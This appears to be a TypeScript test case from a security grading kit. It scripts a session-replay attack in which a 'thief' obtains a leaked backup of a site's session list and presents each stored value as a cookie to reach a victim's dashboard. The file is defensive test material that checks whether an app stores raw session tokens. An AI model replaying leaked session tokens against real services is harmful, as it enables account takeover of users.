import { attack } from "../kit/grader/attack.ts";

export default attack(
  "logging in with a copy of the list",
  "One lost backup, and everybody who is logged in can be anybody's guest.",
  async ({ thief, victim, leak, say }) => {
    say("alice logs in. The thief sees neither her cookie nor her connection.");
    await victim.login();
    say("He puts something in a basket of his own, to learn what the cookie of this site is called.");
    await thief.post("/basket", { item: "umbrella" });
    const [name = ""] = thief.cookieHeader().split("=");
    say("Then he gets hold of a backup: a copy of the list at the door.");
    const list = await leak();
    say("He presents what stands in it, line by line, as if it were his.");
    const pages: string[] = [];
    for (const value of list.slice(-20).flatMap(textsIn)) {
      const page = await thief.get("/dashboard", { headers: { cookie: `${name}=${value}` }, leaveJar: true });
      if (page.response.status === 200) pages.push(page.response.body);
    }
    if (pages.length > 0) return pages.join("\n");
    say("Nothing on that list is a wristband.");
    return undefined;
  },
);

/** Every text in a line of the list that is long enough to be a key: the key itself, and what the record holds. */
function textsIn(value: unknown): string[] {
  if (typeof value === "string") return /^[\x20-\x7e]{16,}$/.test(value) ? [value] : [];
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsIn) : [];
}
